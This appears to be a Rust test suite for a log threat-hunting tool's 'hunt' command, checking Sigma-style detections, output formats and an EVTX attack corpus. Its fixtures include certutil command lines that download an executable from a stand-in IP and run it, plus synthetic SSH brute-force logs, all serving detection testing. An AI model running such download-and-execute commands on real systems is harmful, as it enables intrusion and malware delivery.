//! `rampart hunt` through the real binary: built-in and directory rules on small fixtures, output formats, filters, exit codes, and the shared EVTX corpus with the SigmaHQ rules (a per-file ATT&CK spot-check).
#![allow(clippy::unwrap_used, clippy::expect_used)]

use serde_json::Value;
use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

fn data(rel: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/data/hunt")
        .join(rel)
}

fn hunt(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_rampart"))
        .arg("hunt")
        .args(args)
        .output()
        .expect("run rampart hunt")
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

/// Detections of a `--format jsonl` run, after checking it succeeded.
fn jsonl(out: &Output) -> Vec<Value> {
    assert!(out.status.success(), "stderr: {}", text(&out.stderr));
    text(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
        .collect()
}

fn titles(dets: &[Value]) -> BTreeSet<String> {
    dets.iter()
        .map(|d| d["rule"].as_str().unwrap().to_owned())
        .collect()
}

fn logs() -> String {
    data("logs").display().to_string()
}

/// What the built-in rules find in the fixtures: (rule title, level, timestamp).
const BUILTIN_EXPECTED: &[(&str, &str, &str)] = &[
    (
        "PowerShell Run With An Encoded Command",
        "medium",
        "2024-03-10T09:00:00Z",
    ),
    (
        "LSASS Memory Opened For Reading",
        "high",
        "2024-03-10T10:00:00Z",
    ),
    (
        "File Download With Certutil Or Bitsadmin",
        "high",
        "2024-03-10T11:00:00Z",
    ),
    ("Local User With UID 0 Created", "high", ""),
    ("New Local User Created", "medium", ""),
];

#[test]
fn builtin_rules_when_no_rules_are_given() {
    let dets = jsonl(&hunt(&[&logs(), "--format", "jsonl"]));
    let got = titles(&dets);
    for (title, level, ts) in BUILTIN_EXPECTED {
        let d = dets
            .iter()
            .find(|d| d["rule"] == *title)
            .unwrap_or_else(|| panic!("{title} missing from {got:?}"));
        assert_eq!(d["level"], *level, "{title}");
        if !ts.is_empty() {
            assert_eq!(d["timestamp"], *ts, "{title}");
        }
        assert!(d["file"].as_str().unwrap().contains("logs"), "{d}");
    }
    // Benign events (notepad, a cron job, whoami for the built-in rules) detect nothing:
    // only the expected rules and the correlation base rule for accepted logins fire. A
    // single failed SSH login feeds the brute-force correlations without `generate`, so it
    // is not a detection on its own.
    let extra: Vec<_> = got
        .iter()
        .filter(|t| !BUILTIN_EXPECTED.iter().any(|(e, _, _)| e == t))
        .collect();
    assert!(
        extra.iter().all(|t| t.starts_with("SSH Login Accepted")),
        "unexpected detections: {extra:?}"
    );
}

/// The same Sysmon process creation as NXLog, the OTRF Security Datasets and Winlogbeat
/// export it: each meets the same built-in rule, with its computer and command line shown.
#[test]
fn windows_events_exported_as_json_meet_the_same_rules() {
    let dir = tempfile::tempdir().unwrap();
    let cmd = r"certutil.exe -urlcache -split -f http://203.0.113.66/a.exe C:\Users\Public\a.exe";
    let image = r"C:\\Windows\\System32\\certutil.exe";
    let lines = [
        // NXLog im_msvistalog + to_json: flat, Hostname, SourceName, local EventTime.
        format!(
            r#"{{"EventTime":"2024-03-10 11:00:01","Hostname":"nx1.corp.example","EventID":1,"SourceName":"Microsoft-Windows-Sysmon","Channel":"Microsoft-Windows-Sysmon/Operational","ExecutionProcessID":2044,"Image":"{image}","OriginalFileName":"CertUtil.exe","CommandLine":"{}","User":"CORP\\ann"}}"#,
            cmd.replace('\\', "\\\\")
        ),
        // OTRF Security Datasets (Mordor): flat, @timestamp, Computer, Provider_Name.
        format!(
            r#"{{"@timestamp":"2024-03-10T11:00:02.000Z","Computer":"otrf1.corp.example","EventID":"1","Provider_Name":"Microsoft-Windows-Sysmon","Channel":"Microsoft-Windows-Sysmon/Operational","Image":"{image}","OriginalFileName":"CertUtil.exe","CommandLine":"{}"}}"#,
            cmd.replace('\\', "\\\\")
        ),
        // Winlogbeat: winlog.* with the event data nested.
        format!(
            r#"{{"@timestamp":"2024-03-10T11:00:03.000Z","host":{{"name":"wlb1"}},"winlog":{{"channel":"Microsoft-Windows-Sysmon/Operational","event_id":1,"computer_name":"wlb1.corp.example","provider_name":"Microsoft-Windows-Sysmon","event_data":{{"Image":"{image}","OriginalFileName":"CertUtil.exe","CommandLine":"{}"}}}}}}"#,
            cmd.replace('\\', "\\\\")
        ),
    ];
    let file = dir.path().join("exports.ndjson");
    std::fs::write(&file, lines.join("\n") + "\n").unwrap();
    let dets = jsonl(&hunt(&[file.to_str().unwrap(), "--format", "jsonl"]));
    let certutil: Vec<&Value> = dets
        .iter()
        .filter(|d| d["rule"] == "File Download With Certutil Or Bitsadmin")
        .collect();
    let computers: BTreeSet<&str> = certutil
        .iter()
        .map(|d| d["computer"].as_str().unwrap_or(""))
        .collect();
    assert_eq!(
        computers,
        BTreeSet::from(["nx1.corp.example", "otrf1.corp.example", "wlb1"]),
        "{dets:#?}"
    );
    for d in &certutil {
        let details = d["details"].as_str().unwrap();
        assert!(details.contains("-urlcache -split"), "{d}");
        assert!(
            d["timestamp"]
                .as_str()
                .unwrap()
                .starts_with("2024-03-10T11:00:0"),
            "{d}"
        );
    }
}

/// A `wevtutil qe Security /f:xml` export (and Event Viewer's "Save as XML", with its
/// `<Events>` root) is hunted like the EVTX file it came from.
#[test]
fn windows_xml_exports_are_hunted() {
    let dir = tempfile::tempdir().unwrap();
    let event = |n: u32| {
        format!(
            "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Security-Auditing'/><EventID>4688</EventID><TimeCreated SystemTime='2024-03-10T11:00:0{n}.000Z'/><EventRecordID>{n}</EventRecordID><Channel>Security</Channel><Computer>xml{n}.corp.example</Computer></System><EventData><Data Name='SubjectUserName'>ann</Data><Data Name='NewProcessName'>C:\\Windows\\System32\\certutil.exe</Data><Data Name='CommandLine'>certutil.exe -urlcache -split -f http://203.0.113.66/a.exe a.exe &amp;&amp; a.exe</Data><Data Name='ParentProcessName'>C:\\Windows\\System32\\cmd.exe</Data></EventData></Event>"
        )
    };
    std::fs::write(dir.path().join("wevtutil.xml"), event(1) + "\n" + &event(2)).unwrap();
    std::fs::write(
        dir.path().join("viewer.xml"),
        format!(
            "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<Events>\n{}\n</Events>\n",
            event(3)
        ),
    )
    .unwrap();
    // A truncated export: its events before the cut are hunted, the cut is reported.
    let cut = event(4);
    std::fs::write(dir.path().join("cut.xml"), &cut[..cut.len() - 30]).unwrap();
    let out = hunt(&[dir.path().to_str().unwrap(), "--format", "jsonl"]);
    let stderr = text(&out.stderr);
    let dets = jsonl(&out);
    let certutil: BTreeSet<(String, String)> = dets
        .iter()
        .filter(|d| d["rule"] == "File Download With Certutil Or Bitsadmin")
        .map(|d| {
            (
                d["computer"].as_str().unwrap().to_owned(),
                d["timestamp"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    assert_eq!(
        certutil,
        (1..=3)
            .map(|n| (
                format!("xml{n}.corp.example"),
                format!("2024-03-10T11:00:0{n}Z")
            ))
            .collect(),
        "{dets:#?}"
    );
    assert!(
        dets.iter()
            .any(|d| d["details"].as_str().unwrap().contains("&& a.exe")),
        "entities decoded: {dets:#?}"
    );
    assert!(
        stderr.contains("cut.xml") && stderr.contains("ends inside"),
        "{stderr}"
    );
}

#[test]
fn rules_dir_with_a_broken_rule() {
    let rules = data("rules");
    let out = hunt(&[
        &logs(),
        "--rules",
        rules.to_str().unwrap(),
        "--format",
        "jsonl",
    ]);
    let stderr = text(&out.stderr);
    let dets = jsonl(&out);
    // The broken rule is named with its path and reason; the others still run.
    let broken = rules.join("broken.yml").display().to_string();
    assert!(
        stderr.contains(&broken) && stderr.contains("nosuchmodifier"),
        "{stderr}"
    );
    assert!(stderr.contains("1 could not be compiled"), "{stderr}");
    assert_eq!(
        titles(&dets),
        BTreeSet::from(["Whoami Execution".to_owned()])
    );
    // --builtin adds the built-in rules to the directory's.
    let both = jsonl(&hunt(&[
        &logs(),
        "--rules",
        rules.to_str().unwrap(),
        "--builtin",
        "--format",
        "jsonl",
    ]));
    let got = titles(&both);
    assert!(
        got.contains("Whoami Execution") && got.contains("New Local User Created"),
        "{got:?}"
    );
}

#[test]
fn output_formats_agree() {
    let dets = jsonl(&hunt(&[&logs(), "--format", "jsonl"]));
    let n = dets.len();
    assert!(n >= BUILTIN_EXPECTED.len());

    let json = hunt(&[&logs(), "--format", "json"]);
    assert!(json.status.success());
    let arr: Vec<Value> = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(arr.len(), n);
    assert_eq!(titles(&arr), titles(&dets));

    let csv = hunt(&[&logs(), "--format", "csv"]);
    assert!(csv.status.success());
    let csv = text(&csv.stdout);
    let mut lines = csv.lines();
    assert_eq!(
        lines.next(),
        Some("timestamp,computer,level,rule,tags,details")
    );
    assert_eq!(lines.count(), n, "{csv}");
    assert!(csv.contains("LSASS Memory Opened For Reading"));

    let table = hunt(&[&logs()]);
    assert!(table.status.success());
    let table = text(&table.stdout);
    for (title, _, _) in BUILTIN_EXPECTED {
        assert!(table.contains(title), "{title} not in\n{table}");
    }
}

#[test]
fn level_and_time_filters() {
    let high = jsonl(&hunt(&[&logs(), "--level", "high", "--format", "jsonl"]));
    assert!(!high.is_empty());
    for d in &high {
        assert!(
            matches!(d["level"].as_str(), Some("high" | "critical")),
            "{d}"
        );
    }
    assert_eq!(
        titles(&high),
        BTreeSet::from([
            "LSASS Memory Opened For Reading".to_owned(),
            "File Download With Certutil Or Bitsadmin".to_owned(),
            "Local User With UID 0 Created".to_owned(),
        ])
    );

    // [09:30, 11:00): only the LSASS access at 10:00 (the certutil event at 11:00 is out).
    let window = jsonl(&hunt(&[
        &data("logs/sysmon.ndjson").display().to_string(),
        "--from",
        "2024-03-10T09:30:00Z",
        "--to",
        "2024-03-10T11:00:00Z",
        "--format",
        "jsonl",
    ]));
    assert_eq!(
        titles(&window),
        BTreeSet::from(["LSASS Memory Opened For Reading".to_owned()])
    );
}

#[test]
fn exit_codes() {
    // (arguments, expected success, text expected on stderr)
    let missing = data("nope").display().to_string();
    let empty = tempfile::tempdir().unwrap();
    let cases: Vec<(Vec<String>, bool, &str)> = vec![
        (vec![logs()], true, "== summary"),
        (
            vec![missing.clone()],
            false,
            "nope: no such file or directory",
        ),
        (
            vec![empty.path().display().to_string()],
            false,
            "no files found",
        ),
        (
            vec![logs(), "--rules".into(), missing],
            false,
            "no such file or directory",
        ),
        (
            vec![logs(), "--level".into(), "severe".into()],
            false,
            "unknown level 'severe'",
        ),
        (
            vec![logs(), "--from".into(), "not a time".into()],
            false,
            "",
        ),
    ];
    for (args, ok, msg) in cases {
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let out = hunt(&args);
        let stderr = text(&out.stderr);
        assert_eq!(out.status.success(), ok, "{args:?}: {stderr}");
        assert!(stderr.contains(msg), "{args:?}: {stderr}");
        if !ok {
            assert_eq!(out.status.code(), Some(1), "{args:?}");
        }
    }
}

// ---- shared corpus -------------------------------------------------------------------

fn shared(what: &str) -> Option<PathBuf> {
    let p = PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/../../../shared"));
    if p.is_dir() {
        return Some(p);
    }
    if std::env::var("RAMPART_REQUIRE_SHARED").as_deref() == Ok("1") {
        panic!("{what}: ../shared is required but not present");
    }
    println!("SKIPPED: {what} (../shared not present)");
    None
}

/// Techniques named in file names that ATT&CK has since deprecated, and what replaced them.
const REPLACED: &[(&str, &str)] = &[
    // Process Doppelgänging became a sub-technique of Process Injection.
    ("T1186", "T1055.013"),
    // SID-History Injection became a sub-technique of Access Token Manipulation.
    ("T1178", "T1134.005"),
];

/// Files naming a technique for which no SigmaHQ rule fires, and why.
const NOT_COVERED: &[(&str, &str)] = &[(
    "Defense Evasion/Win_4985_T1186_Process_Doppelganging.evtx",
    "the file holds only Security 4985 (transaction state changed) records of the TxF \
     transaction; SigmaHQ has no rule on 4985 and the Sysmon/process events a Doppelgänging \
     detection needs are not in the file",
)];

/// Tactic folders of the corpus and the ATT&CK tactic tags that stand for them (SigmaHQ
/// uses ATT&CK v18, where Defense Evasion became Stealth and Defense Impairment).
const TACTIC_FOLDERS: &[(&str, &[&str])] = &[
    ("Command and Control", &["command-and-control"]),
    ("Credential Access", &["credential-access"]),
    (
        "Defense Evasion",
        &["defense-evasion", "stealth", "defense-impairment"],
    ),
    ("Discovery", &["discovery"]),
    ("Execution", &["execution"]),
    ("Lateral Movement", &["lateral-movement"]),
    ("Persistence", &["persistence"]),
    ("Privilege Escalation", &["privilege-escalation"]),
];

/// Share of tactic-folder files with a detection tagged with the folder's tactic, as
/// measured (121 of 260 files with the SigmaHQ `rules` folder); the test keeps it from
/// falling.
const TACTIC_SHARE_MEASURED: f64 = 121.0 / 260.0;

fn techniques_in(name: &str) -> Vec<String> {
    let b = name.as_bytes();
    let mut out = Vec::new();
    for i in 0..b.len() {
        let starts = i == 0 || !b[i - 1].is_ascii_alphanumeric();
        if starts
            && (b[i] == b'T' || b[i] == b't')
            && b.len() >= i + 5
            && b[i + 1..i + 5].iter().all(u8::is_ascii_digit)
            && b.get(i + 5).is_none_or(|c| !c.is_ascii_digit())
        {
            out.push(format!("T{}", &name[i + 1..i + 5]));
        }
    }
    out
}

/// `tag` (`attack.t1003.001`) is `technique`, one of its sub-techniques, or its parent.
fn tag_covers(tag: &str, technique: &str) -> bool {
    let Some(t) = tag.strip_prefix("attack.") else {
        return false;
    };
    let t = t.to_ascii_uppercase();
    let tech = technique.to_ascii_uppercase();
    t == tech || t.starts_with(&format!("{tech}.")) || tech.starts_with(&format!("{t}."))
}

#[test]
fn shared_evtx_corpus_with_sigmahq_rules() {
    let Some(shared) = shared("hunt over the EVTX attack samples") else {
        return;
    };
    let samples = shared.join("datasets/evtx-attack-samples");
    let rules = shared.join("sigma/rules");
    let out = hunt(&[
        samples.to_str().unwrap(),
        "--rules",
        rules.to_str().unwrap(),
        "--format",
        "jsonl",
    ]);
    let stderr = text(&out.stderr);
    let dets = jsonl(&out);
    assert!(
        stderr.contains("unreadable records/files: 0"),
        "hunt reported errors:\n{stderr}"
    );
    let mut by_file: BTreeMap<String, Vec<&Value>> = BTreeMap::new();
    for d in &dets {
        let file = Path::new(d["file"].as_str().unwrap());
        let rel = file
            .strip_prefix(&samples)
            .unwrap_or(file)
            .display()
            .to_string();
        by_file.entry(rel).or_default().push(d);
    }
    let mut evtx = Vec::new();
    collect_evtx(&samples, &samples, &mut evtx);
    assert!(evtx.len() > 250, "{} EVTX files", evtx.len());
    let tags = |rel: &str| -> Vec<String> {
        by_file
            .get(rel)
            .map(|v| {
                v.iter()
                    .flat_map(|d| d["tags"].as_array().unwrap().iter())
                    .filter_map(|t| t.as_str().map(str::to_owned))
                    .collect()
            })
            .unwrap_or_default()
    };

    // 1. Files whose name gives an ATT&CK technique: a detection with that technique.
    println!("technique spot-check (file → technique: covered)");
    let (mut named, mut covered) = (0, 0);
    let mut uncovered = Vec::new();
    for rel in &evtx {
        for tech in techniques_in(rel) {
            let current = REPLACED
                .iter()
                .find(|(old, _)| *old == tech)
                .map_or(tech.as_str(), |(_, new)| new);
            let tags = tags(rel);
            let hit = tags
                .iter()
                .any(|t| tag_covers(t, &tech) || tag_covers(t, current));
            println!("  {rel} → {tech} ({current}): {hit}");
            named += 1;
            if hit {
                covered += 1;
            } else {
                uncovered.push(rel.clone());
            }
        }
    }
    let documented: Vec<String> = NOT_COVERED.iter().map(|(f, _)| f.to_string()).collect();
    assert_eq!(
        uncovered, documented,
        "files naming a technique without a matching detection changed"
    );
    assert!(named >= 3 && covered >= 2, "{covered} of {named}");

    // 2. Every file of a tactic folder: a detection tagged with the folder's tactic.
    let (mut total, mut hits) = (0usize, 0usize);
    let mut missing = Vec::new();
    for rel in &evtx {
        let Some((_, tactics)) = TACTIC_FOLDERS
            .iter()
            .find(|(folder, _)| rel.starts_with(&format!("{folder}/")))
        else {
            continue;
        };
        total += 1;
        let tags = tags(rel);
        if tags
            .iter()
            .any(|t| tactics.iter().any(|x| t == &format!("attack.{x}")))
        {
            hits += 1;
        } else {
            let n = by_file.get(rel).map_or(0, Vec::len);
            missing.push(format!("{rel} ({n} detections of other tactics)"));
        }
    }
    let share = hits as f64 / total.max(1) as f64;
    println!(
        "tactic spot-check: {hits} of {total} files ({:.1}%)",
        share * 100.0
    );
    for m in &missing {
        println!("  not covered: {m}");
    }
    assert!(
        share + 1e-9 >= TACTIC_SHARE_MEASURED,
        "tactic coverage fell to {hits}/{total}"
    );
}

/// Corpus files and the built-in rule each must raise (a check of the default rules on
/// real recordings rather than on their own examples).
const BUILTIN_ON_CORPUS: &[(&str, &str)] = &[
    (
        "Defense Evasion/DE_1102_security_log_cleared.evtx",
        "Security Event Log Cleared",
    ),
    (
        "Defense Evasion/DE_104_system_log_cleared.evtx",
        "Windows Event Log Cleared",
    ),
    (
        "Execution/temp_scheduled_task_4698_4699.evtx",
        "Scheduled Task Created",
    ),
    (
        "Persistence/Network_Service_Guest_added_to_admins_4732.evtx",
        "Member Added To The Local Administrators Group",
    ),
    (
        "Defense Evasion/DE_Fake_ComputerAccount_4720.evtx",
        "Local Or Domain User Account Created",
    ),
    (
        "Lateral Movement/LM_Remote_Service02_7045.evtx",
        "New Service Installed",
    ),
    (
        "Privilege Escalation/System_7045_namedpipe_privesc.evtx",
        "Service Installed With A Suspicious Command",
    ),
    (
        "Credential Access/sysmon_10_lsass_mimikatz_sekurlsa_logonpasswords.evtx",
        "LSASS Memory Opened For Reading",
    ),
    (
        "Command and Control/DE_RDP_Tunneling_4624.evtx",
        "Remote Desktop Logon",
    ),
    (
        "Command and Control/web_attack_and_isp_webshell_localhost_access_log.txt",
        "Path Traversal In Web Request",
    ),
    (
        "Command and Control/web_attack_and_isp_webshell_localhost_access_log.txt",
        "Script Run From An Upload Folder Or Web Shell Command",
    ),
];

#[test]
fn shared_corpus_with_builtin_rules() {
    let Some(shared) = shared("built-in rules over the attack samples") else {
        return;
    };
    let samples = shared.join("datasets/evtx-attack-samples");
    let dets = jsonl(&hunt(&[samples.to_str().unwrap(), "--format", "jsonl"]));
    let found: BTreeSet<(String, String)> = dets
        .iter()
        .map(|d| {
            let file = Path::new(d["file"].as_str().unwrap());
            let rel = file.strip_prefix(&samples).unwrap_or(file);
            (
                rel.display().to_string(),
                d["rule"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    for (file, rule) in BUILTIN_ON_CORPUS {
        assert!(
            found.contains(&(file.to_string(), rule.to_string())),
            "{rule} did not fire on {file}"
        );
    }
}

fn collect_evtx(root: &Path, dir: &Path, out: &mut Vec<String>) {
    let mut entries: Vec<_> = std::fs::read_dir(dir).unwrap().flatten().collect();
    entries.sort_by_key(|e| e.path());
    for e in entries {
        let p = e.path();
        if p.is_dir() {
            collect_evtx(root, &p, out);
        } else if p.extension().is_some_and(|x| x == "evtx") {
            out.push(p.strip_prefix(root).unwrap().display().to_string());
        }
    }
}

#[test]
fn technique_names_and_tags() {
    assert_eq!(
        techniques_in("Defense Evasion/Win_4985_T1186_Process_Doppelganging.evtx"),
        ["T1186"]
    );
    assert_eq!(techniques_in("x/4765_sidhistory_add_t1178.evtx"), ["T1178"]);
    assert!(techniques_in("UACME_59_Sysmon.evtx").is_empty());
    assert!(techniques_in("x/T12345.evtx").is_empty());
    assert!(tag_covers("attack.t1003.001", "T1003"));
    assert!(tag_covers("attack.t1134", "T1134.005"));
    assert!(!tag_covers("attack.t1003", "T1030"));
    assert!(!tag_covers("attack.t10031", "T1003"));
}

/// Sigma correlations run in `hunt` over the matched events in time order: twelve failed
/// logins from one source within two minutes fire the built-in brute-force correlation once
/// (suppressed for the rest of the window), three from another source do not.
#[test]
fn correlations_fire_over_files() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("auth.log");
    let mut lines = String::new();
    for i in 0..12 {
        lines.push_str(&format!(
            "2024-03-10T08:00:{:02}Z bastion sshd[{}]: Failed password for user{i} from 203.0.113.66 port 4{i:04} ssh2\n",
            i * 5,
            100 + i
        ));
    }
    for i in 0..3 {
        lines.push_str(&format!(
            "2024-03-10T08:01:{:02}Z bastion sshd[{}]: Failed password for alice from 198.51.100.7 port 5{i:04} ssh2\n",
            i * 5,
            300 + i
        ));
    }
    std::fs::write(&path, lines).unwrap();
    let p = path.display().to_string();
    let dets = jsonl(&hunt(&[&p, "--format", "jsonl"]));
    let brute: Vec<&Value> = dets
        .iter()
        .filter(|d| d["rule"] == "SSH Brute Force From One Source")
        .collect();
    assert_eq!(
        brute.len(),
        1,
        "one firing per source and window: {brute:?}"
    );
    let details = brute[0]["details"].as_str().unwrap();
    assert!(details.contains("source.ip=203.0.113.66"), "{details}");
    assert!(
        dets.iter().all(
            |d| !d["details"].as_str().unwrap_or("").contains("198.51.100.7")
                || d["rule"] != "SSH Brute Force From One Source"
        ),
        "the source below the threshold does not fire"
    );
    // Twelve distinct accounts from one source: password spraying too.
    assert!(
        dets.iter()
            .any(|d| d["rule"] == "SSH Password Spraying From One Source"),
        "{:?}",
        titles(&dets)
    );
    // The single failures feed the correlations without `generate`: not shown alone.
    assert!(!titles(&dets).contains("SSH Failed Login"));
    // Without suppression every failure past the threshold fires again.
    let all = jsonl(&hunt(&[
        &p,
        "--format",
        "jsonl",
        "--correlation-suppress",
        "0",
    ]));
    let n = all
        .iter()
        .filter(|d| d["rule"] == "SSH Brute Force From One Source")
        .count();
    assert_eq!(n, 3, "failures 10, 11 and 12 each meet the condition");
}
